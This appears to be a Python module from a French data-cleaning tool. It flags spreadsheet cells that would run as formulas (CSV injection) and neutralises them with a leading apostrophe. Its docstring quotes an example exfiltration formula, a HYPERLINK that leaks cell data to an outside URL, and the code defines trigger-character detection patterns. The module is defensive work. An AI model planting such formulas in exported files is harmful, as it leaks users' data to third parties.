"""Flag cells that a spreadsheet would run as a formula when a salesperson opens the cleaned file:
text beginning with `=`, `+`, `-`, `@`, TAB or CR (OWASP "CSV injection", CWE-1236). A formula
such as `=HYPERLINK("https://…?leak="&A1)` can send the sheet's data away or run commands.
Phone numbers (`+33 6 12 34 56 78`) and plain numbers (`-12,5`) are not a risk and pass. A cell is
judged as the engine hands it, without the characters `control-characters` removes
(`engine/visible`: `U+001F` then `=1+1` is written `=1+1`, and judged so).

The default action only flags the row: the CSV outputs are made safe by their writer whatever the
rules (`write.formulas`: a leading apostrophe, unless `--keep-formulas`), and a workbook output
writes every such cell as a string.

Params: none.

Example:
    - id: formula-injection
      family: output-safety
      check: formula_injection
      severity: warning
      action: tag
      legal_basis: "RGPD art. 32 (sécurité); OWASP CSV Injection, CWE-1236"
      message: {fr: "Cellule interprétée comme formule par un tableur", en: "Cell a spreadsheet runs as a formula"}
"""
from __future__ import annotations

import re

import numpy as np
import pyarrow as pa

from fichier_check.checks.base import CheckContext, Hits
from fichier_check.table import first_bytes, matches, same_texts

TYPE = "formula_injection"
PARAMS: dict = {}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HARMLESS = re.compile(r"^[+\-]?[0-9][0-9 .,()/\-]*$")  # phone numbers and plain numbers


def roles(params: dict) -> list[str]:
    return []


TRIGGER_PATTERN = "^[=+@\t\r-]"
# HARMLESS for RE2: Python's `$` also matches before a final newline, RE2's only at the very end.
RE2_HARMLESS = HARMLESS.pattern[:-1] + "\n?$"


def is_formula(text: str) -> bool:
    return text.startswith(TRIGGERS) and not HARMLESS.match(text)


_TRIGGER_BYTES = np.frombuffer("".join(TRIGGERS).encode("ascii"), dtype=np.uint8)


def formulas(cells) -> np.ndarray:
    """`is_formula` of every cell of an Arrow string array, with no Python per cell: the first bytes
    say which cells start with a trigger (all ASCII), one RE2 pass over those says which are harmless."""
    first = first_bytes(cells)
    return _judged(cells, matches(cells, TRIGGER_PATTERN) if first is None else np.isin(first, _TRIGGER_BYTES))


def _judged(cells, starts: np.ndarray) -> np.ndarray:
    """Per cell: starts with a trigger (`starts`) and is not a phone or plain number."""
    found = np.zeros(len(cells), dtype=bool)
    rows = np.flatnonzero(starts)
    if len(rows):
        found[rows] = ~matches(cells.take(pa.array(rows)), RE2_HARMLESS)
    return found


def check(ctx: CheckContext, params: dict) -> list[Hits]:
    hits = []
    for position in range(len(ctx.columns.header)):
        cells = ctx.arrow(position)
        flagged = formulas(cells)
        if not flagged.any():
            continue  # most columns: one RE2 pass over the cells
        rows = np.flatnonzero(flagged)
        neutral = same_texts(len(flagged), None)  # read at the flagged rows only
        neutral[rows] = ["'" + cell for cell in cells.take(pa.array(rows)).to_pylist()]
        hits.append(Hits(column=position, mask=flagged, replacement=neutral))
    return hits
